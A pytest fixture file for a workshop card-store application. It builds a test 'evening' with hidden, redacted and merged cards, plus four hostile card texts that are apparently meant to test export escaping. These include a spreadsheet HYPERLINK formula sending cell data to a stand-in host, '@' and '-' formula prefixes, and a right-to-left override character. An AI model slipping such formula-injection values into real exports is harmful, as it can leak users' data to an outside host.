"""An evening in a store without server."""

from collections.abc import Iterator
from pathlib import Path

import pytest

from config import Config
from tests.evening import Evening, begin, hold
from tests.hall import copy_of
from workshop.store import open_store


@pytest.fixture(scope="package")
def evening(migrated: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Evening]:
    """Pforzheim's evening with hidden, redacted, merged, withdrawn and hostile cards; tests only look at it."""
    store = open_store(Config(data_dir=copy_of(migrated, tmp_path_factory.mktemp("exports") / "data")))
    made = hold(begin(store))
    cards = list(made.cards.values())
    made.do("card.hide", card=cards[0], reason="Ton")
    made.do("card.redact", card=cards[1], start=0, end=4)
    made.do("card.merge", card=cards[2], into=cards[3])
    step = made.steps["cards", "phantasie"]
    hostile = ('=HYPERLINK("http://example.invalid/?d="&A1;"Zur Anmeldung")', "@SUM(1+1)", "-2+3", "\u202eabc")
    for number, text in enumerate(hostile, 7):
        made.cards[text] = made.do("card.submit", step=step, text=text, lang="de", source="paper", paper=number)["id"]
    yield made
    store.database.engine.dispose()


@pytest.fixture
def fresh(migrated: Path, tmp_path: Path) -> Iterator[Evening]:
    """A workshop in which nothing has happened yet."""
    store = open_store(Config(data_dir=copy_of(migrated, tmp_path / "data")))
    yield begin(store)
    store.database.engine.dispose()
